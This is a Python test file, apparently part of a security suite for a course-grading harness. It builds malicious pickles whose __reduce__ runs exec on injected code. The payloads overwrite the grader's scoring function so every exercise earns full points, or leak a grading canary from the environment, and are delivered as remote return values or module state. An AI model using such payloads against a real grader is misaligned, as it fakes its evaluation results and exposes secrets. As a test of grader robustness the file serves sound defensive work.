"""Pickles that do something when they are read, wherever one may cross."""

from case import attack

from attacks import SEAT

EVIL = SEAT + """
import pickle
class Evil:
    def __reduce__(self):
        return exec, (CODE,)
"""
RAISES_POINTS = """CODE = '''
from course.grade import judge
judge.points_for = lambda exercise, outcome: 3.0
'''
"""
TELLS = """CODE = '''
from course.grade import judge
judge.kind_of = lambda outcome: __import__("os").environ["COURSE_GRADING_CANARY"]
'''
"""


def case(name, code, body, wins="earns"):
    return attack("unpickling", name, "pickles", wins, code + EVIL + body)


RETURNS = """
def remote_mean(x, y):
    line.send(["said", [["returned", ["pickle", pickle.dumps(Evil())]], [], [], [], "", 0, [None, None, None]]])
"""

CASES = [
    case("a pickle that raises the points", RAISES_POINTS, RETURNS),
    case("a pickle that tells of the judge's environment", TELLS, RETURNS, "leaks"),
    case(
        "a pickle as the state of a model",
        RAISES_POINTS,
        """
def remote_mean(x, y):
    state = ["Linear", True, False, None, [], None, [["a", ["pickle", pickle.dumps(Evil())]]], [], [], [], []]
    line.send(["said", [["returned", ["new", 101, "module", state]], [], [], [], "", 0, [None, None, None]]])
""",
    ),
]
